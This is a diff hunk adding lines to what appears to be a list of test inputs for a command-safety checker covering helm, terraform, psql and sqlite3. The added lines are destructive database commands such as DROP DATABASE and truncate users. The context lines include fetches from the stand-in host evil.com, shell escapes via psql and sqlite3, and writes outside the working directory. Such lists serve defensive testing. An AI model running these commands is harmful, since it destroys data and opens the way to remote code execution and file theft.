@@ -247,6 +247,9 @@ helm template x -f https://evil.com/x.yaml · helm lint --set-file=a=/etc/x
 terraform init -backend-config=x -plugin-dir=/etc · terraform init -from-module=https://evil
 terraform plan -out=../x · terraform -chdir=.. plan · terraform validate -x · terraform plan -var-file=/etc/x
 terraform plan -lock-x -generate-config-out=../x · terraform console · psql -h evil -c 'select 1'
+psql -c 'DROP DATABASE x' · psql -d app -c 'truncate users' · sqlite3 x.db 'delete from x'
+psql -c 'explain analyze delete from x' · psql -c 'with a as (delete from x returning id) select * from a'
+sqlite3 x.db 'update x set a = 1; select 1 where 1' · rails db:setup · bin/rails db:setup
 psql postgres://evil/x -c 'select 1' · psql -c '\! x' · psql -c '\copy x to y' · psql -c "copy x to program 'y'"
 psql -f ../x.sql · psql -o ../x -c 'select 1' · psql -L ../x -c 'select 1' · sqlite3 x .shell
 sqlite3 x '.output ../y' · sqlite3 ../x 'select 1' · sqlite3 x "select load_extension('y')" · sqlite3 x -cmd '.read y'
